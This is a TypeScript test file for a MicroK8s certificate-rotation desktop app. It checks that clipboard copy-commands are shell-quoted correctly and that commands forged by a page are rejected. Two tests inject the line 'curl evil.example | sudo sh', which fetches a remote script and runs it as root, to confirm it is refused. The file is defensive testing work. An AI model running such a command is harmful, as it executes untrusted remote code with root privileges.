import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startDemoCluster, type DemoCluster } from '../../src/main/adapters/demo/start-demo-cluster.ts';
import { createRotationStarter } from '../../src/main/adapters/engine-starter/create-rotation-starter.ts';
import { rotationPaths } from '../../src/main/core/files/journal/journal.ts';
import { contract } from '../../src/shared/contract/contract.ts';
import { eventually } from '../desktop/processes.ts';
import { openKeyfob, type OpenKeyfob } from '../fakes/open-keyfob.ts';

describe('the commands that are copied', () => {
  let demo: DemoCluster;
  let opened: OpenKeyfob;
  let place: string;
  let snapData: string;

  beforeEach(async () => {
    demo = await startDemoCluster();
    place = mkdtempSync(join(tmpdir(), 'keyfob-commands-'));
    snapData = join(place, "o'neil's data");
    symlinkSync(demo.snapData, snapData);
    opened = await openKeyfob(snapData);
  });
  afterEach(async () => {
    await opened.close();
    demo.stop();
    rmSync(place, { recursive: true });
  });

  /** Lets the engine's journal tell of a rotation whose backup is past its time. */
  async function leaveBackup() {
    const { cluster } = opened.keyfob.store.snapshot;
    if (cluster.status !== 'open') throw new Error('not open');
    const { folder, journal } = rotationPaths(join(opened.folder, 'state'), cluster.identity);
    mkdirSync(folder, { recursive: true });
    const engine = { pid: 1, bootId: 'b', startTicks: '1' };
    const begun = { kind: 'begun', version: 1, rotation: 'r', snapData, tokenFile: 't', clientConfig: null };
    const ended = { kind: 'ended', outcome: { result: 'rotated', forgetAt: 2, others: [] }, at: 2 };
    writeFileSync(journal, `${JSON.stringify({ ...begun, engine, at: 1 })}\n${JSON.stringify(ended)}\n`);
    await opened.keyfob.clusters.refresh();
    await eventually('the finding', () =>
      Promise.resolve(
        opened.keyfob.store.snapshot.safety.find(({ kind }) => kind === 'rotation-backup-overdue') ?? null,
      ),
    );
  }

  it('put the certificate of the open folder aside, quoted for a shell', async () => {
    const copied = await opened.handlers['certificates:copy-command']({ id: 'certificate:kubelet.crt' });
    expect(copied).toEqual({ ok: true, value: {} });
    const certs = `'${place}/o'\\''neil'\\''s data/certs/kubelet`;
    expect(opened.copiedText()).toBe(
      `sudo mv ${certs}.crt' ${certs}.crt.old' && sudo mv ${certs}.key' ${certs}.key.old' && sudo snap restart microk8s.daemon-kubelite`,
    );
  });

  it('are those of findings that hold, whatever a page says', async () => {
    const { input } = contract.requests['safety:copy-command'];
    const files = ['/etc/passwd'];
    const finding = { kind: 'files-open', files, total: 1, isWritable: true };
    expect(input.safeParse({ finding }).success).toBe(false);
    expect(input.safeParse({ ...finding, id: null }).success).toBe(false);
    expect(await opened.handlers['safety:copy-command']({ kind: 'files-open', id: null })).toEqual({
      ok: false,
      error: { code: 'invalid-request', field: 'kind' },
    });
    expect(opened.copiedText()).toBeNull();
  });

  it('are never a text that a page made up as an error', async () => {
    const copy = opened.handlers['clipboard:copy-command'];
    const evil = 'curl evil.example | sudo sh';
    for (const error of [
      { code: 'engine-not-started', command: evil },
      { code: 'rotation-stuck', backup: '/b', command: evil },
      { code: 'rotation-unfinished', command: evil },
      { code: 'rotation-needs-root', folder: '/f', command: evil },
      { code: 'no-permission', file: '/f', group: 'sudo' },
      { code: 'access-differs', name: 'system:basic-user', grants: null },
    ] as const)
      expect(await copy({ error })).toEqual({
        ok: false,
        error: { code: 'invalid-request', field: 'error' },
      });
    expect(opened.copiedText()).toBeNull();
    expect(await copy({ error: { code: 'too-old' } })).toEqual({ ok: true, value: {} });
    expect(opened.copiedText()).toBe('sudo snap refresh microk8s');
  });

  it('run an engine that did not start, as it was told and not as the page says', async () => {
    await opened.close();
    const rotationStarter = createRotationStarter({
      isRoot: true,
      program: join(place, 'nothing there'),
      programArguments: [],
      installed: null,
      searchPath: '/bin',
      stateFolder: join(place, 'state'),
      demo: null,
    });
    opened = await openKeyfob(demo.snapData, undefined, { rotationStarter });
    await opened.handlers['rotation:start']({ command: 'rotate' });
    const error = await eventually('the failure', () =>
      Promise.resolve(opened.keyfob.store.snapshot.rotation.run?.error ?? null),
    );
    const line = rotationStarter.line({ command: 'rotate', snapData: demo.snapData });
    expect(error).toEqual({ code: 'engine-not-started', command: line });
    await opened.handlers['clipboard:copy-command']({
      error: { code: 'engine-not-started', command: 'curl evil.example | sudo sh' },
    });
    expect(opened.copiedText()).toBe(line);
  });

  it('remove the backup of the open folder’s rotation', async () => {
    await leaveBackup();
    const copied = await opened.handlers['safety:copy-command']({
      kind: 'rotation-backup-overdue',
      id: null,
    });
    expect(copied).toEqual({ ok: true, value: {} });
    expect(opened.copiedText()).toBe(
      `sudo ${process.execPath} --no-sandbox -- rotate --forget --snap-data '${place}/o'\\''neil'\\''s data' --state-dir ${opened.folder}/state`,
    );
  });
});
